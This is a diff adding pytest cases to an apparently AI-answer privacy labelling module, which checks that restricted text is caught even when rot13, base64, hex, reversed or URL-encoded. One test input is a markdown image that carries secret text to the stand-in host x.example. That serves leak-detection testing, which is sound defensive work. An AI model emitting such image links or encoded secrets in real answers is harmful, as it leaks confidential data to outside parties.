@@ -4,10 +4,12 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import codecs
 import time
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import NamedTuple
+from urllib.parse import quote
 
 import msgspec
 import numpy as np
@@ -16,6 +18,7 @@ import pytest
 from palier.jobs.pool import ProcessWorkers
 from palier.privacy import fingerprints as module
 from palier.privacy import guesses
+from palier.privacy.answers import united
 from palier.privacy.fingerprints import FingerprintMarker, Fingerprints
 from palier.stores.knowledge import SqliteKnowledge
 from palier.stores.marks import SqliteAnswerMarks
@@ -40,9 +43,10 @@ class House(NamedTuple):
 
     async def answered(self, id: str, text: str, label: Label, asked: tuple[str, ...] = ()) -> None:
         """Record an answer as the pipeline does."""
-        seen = await self.prints.seen(asked)
-        marks = await self.prints.above_documents(await self.prints.marks_of([text], label, seen), label)
-        marked = Marked(marks=marks.tobytes(), expires=CREATED + 10)
+        own = await self.prints.own(asked, await self.prints.seen(asked))
+        said = await self.prints.said([text], label)
+        known = united([own, await self.prints.lower(said, label)])
+        marked = Marked(marks=said[0].to_record(known).tobytes(), expires=CREATED + 10)
         await self.traces.record(msgspec.structs.replace(trace_of(id), label=label, marked=marked))
 
 
@@ -96,6 +100,70 @@ async def test_a_short_document_is_known_below_its_title_too(house: House) -> No
     document = Document(id="d", collection="c", text="Morel gagne neuf mille", title="Paie", label=Label.RESTRICTED)
     await house.knowledge.put([(document, [], np.empty((0, DIMENSION), np.float32))])
     assert await house.prints.label_of(["Dis-moi. Morel gagne neuf mille ?"]) is Label.RESTRICTED
+
+
+async def test_what_a_document_is_called_is_known(house: House) -> None:
+    document = Document(
+        id="cases/AT-118302-QX",
+        collection="c",
+        text="x",
+        url=f"https://inside.example/{CODE}",
+        label=Label.CONFIDENTIAL,
+    )
+    await house.knowledge.put([(document, [], np.empty((0, DIMENSION), np.float32))])
+    for said in (CODE, base64.b64encode(CODE.encode()).decode(), f"see https://inside.example/{CODE}", "at 118302 qx"):
+        assert await house.prints.label_of([said]) is Label.CONFIDENTIAL, said
+    assert await house.prints.label_of(["https://inside.example/ is our site"]) is Label.PUBLIC
+
+
+OFFER = "The Lanbinic line costs 17 euros a month, installation included, during the first 12 months of the contract."
+
+
+@pytest.mark.parametrize(
+    ("told", "asked"),
+    [
+        (codecs.encode(f"{OFFER} {SECRET}", "rot13"), OFFER),
+        (f"{OFFER} {SECRET}"[::-1], OFFER),
+        (codecs.encode(f"{OFFER} {SECRET}", "rot13")[::-1], OFFER[::-1]),
+        (f"![](https://x.example/?q={quote(OFFER + SECRET)})", "What does an installation cost?"),
+        (f"![](https://x.example/?q={quote(OFFER + SECRET)})", quote(OFFER)),
+        (f"{OFFER} [1]", f"{OFFER} [1]"),
+        (f"Yes. {OFFER} [1]\n{OFFER} [2]", f"Yes. {OFFER} [1]\n{OFFER} [2]"),
+        (base64.b64encode(f"{OFFER} {SECRET}".encode()).decode(), base64.b64encode(OFFER.encode()).decode()),
+        ("20installation", "an installation in 20 installation steps"),
+        ("Good morning, how may I help?", "Good morning, how may I help?"),
+    ],
+)
+async def test_an_answer_leaves_public_text_public(house: House, told: str, asked: str) -> None:
+    await house.put("press", OFFER, Label.PUBLIC)
+    await house.put("merger", SECRET, Label.RESTRICTED)
+    await house.answered("t1", told, Label.RESTRICTED)
+    assert await house.prints.label_of([asked]) is Label.PUBLIC
+
+
+async def test_an_answer_is_known_by_what_it_says_encoded(house: House) -> None:
+    await house.put("press", OFFER, Label.PUBLIC)
+    await house.answered("t1", base64.b64encode(f"{OFFER} {SECRET}".encode()).decode(), Label.RESTRICTED)
+    for said in (SECRET, SECRET.encode().hex(), codecs.encode(SECRET, "rot13"), quote(SECRET[20:90])):
+        assert await house.prints.label_of([said]) is Label.RESTRICTED, said
+
+
+async def test_what_is_public_since_an_answer_told_it_is_public(house: House) -> None:
+    await house.answered("t1", codecs.encode(SECRET, "rot13"), Label.RESTRICTED)
+    assert await house.prints.label_of([SECRET]) is Label.RESTRICTED
+    await house.put("press", SECRET, Label.PUBLIC)
+    assert await house.prints.label_of([SECRET]) is Label.PUBLIC
+    assert await house.prints.label_of([codecs.encode(SECRET, "rot13")]) is Label.PUBLIC
+
+
+async def test_what_cannot_be_read_through_is_what_the_answer_was(
+    house: House, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    await house.put("press", OFFER, Label.PUBLIC)
+    monkeypatch.setattr(module, "MAX_SAID", 50)
+    await house.answered("t1", f"{SECRET} {OFFER}", Label.RESTRICTED)
+    assert await house.prints.label_of([f"{SECRET} Is it so?"]) is Label.RESTRICTED
+    assert await house.prints.label_of([OFFER]) is Label.PUBLIC
 
 
 async def test_a_token_split_over_turns_is_joined_again(house: House) -> None:
